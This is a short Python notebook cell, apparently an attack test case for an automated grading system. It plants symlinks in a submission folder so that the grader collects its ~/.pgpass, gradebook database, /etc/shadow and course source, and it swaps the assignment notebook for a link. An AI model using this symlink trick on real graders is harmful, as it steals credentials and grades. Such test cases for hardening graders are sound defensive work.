# Leaves links in its folder that point to the grader's files, for the grader to collect.

# %% answer="level"
import os

for number, target in enumerate((f"{HOME}/.pgpass", f"{COURSE}/gradebook.db", "/etc/shadow", f"{COURSE}/source")):
    os.symlink(target, f"link{number}")
os.symlink(f"{HOME}/.pgpass", "assignment_files")
os.rename("assignment.ipynb", "moved.ipynb") if os.path.exists("assignment.ipynb") else None
os.symlink(f"{COURSE}/source/attacks/assignment.ipynb", "assignment.ipynb")
level = None
